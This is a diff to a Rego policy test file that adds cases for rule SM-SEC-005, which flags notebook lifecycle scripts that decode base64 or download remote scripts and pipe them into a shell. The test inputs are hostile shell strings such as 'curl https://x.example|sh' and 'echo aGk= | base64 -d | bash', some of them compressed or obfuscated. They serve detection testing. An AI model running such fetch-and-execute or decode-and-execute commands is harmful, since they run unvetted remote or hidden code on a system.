@@ -80,7 +80,7 @@ test_sm_sec_005_passes if {
 }
 
 test_sm_sec_005_fails_for_scripts_that_are_unpacked_first if {
-	every text in ["echo aGk= | base64 -d | bash", "base64 --decode x.b64 | sudo sh", "eval $(echo aGk= | base64 -d)", "bash <(base64 -D x)"] {
+	every text in ["echo aGk= | base64 -d | bash", "base64 --decode x.b64 | sudo sh", "eval $(echo aGk= | base64 -d)", "bash <(base64 -D x)", "base64 -d|sh", "bash<(base64 -d)"] {
 		notebook_code.deny["SM-SEC-005"] == {"Lifecycle configuration \"setup\" possibly runs a script that it unpacks first."} with input as script(text)
 	}
 	every text in ["echo aGk= | base64 -d > key.pem", "base64 key.pem | bash-formatter", "bash run.sh; base64 -d x > y"] {
@@ -107,6 +107,10 @@ test_sm_sec_005_fails_for_scripts_from_the_web if {
 		"curl -s https://x.example/i.sh | tr -d x | /bin/bash",
 		"curl -s https://x.example/i.pl | perl",
 		". <(curl -s https://x.example/i.sh)",
+		"echo 完了;écurl https://x.example|sh",
+		"wget|sh",
+		"source<(curl x)",
+		"eval`wget x`",
 	] {
 		notebook_code.deny["SM-SEC-005"] == {from_the_web} with input as script(text) with data.config as {}
 	}
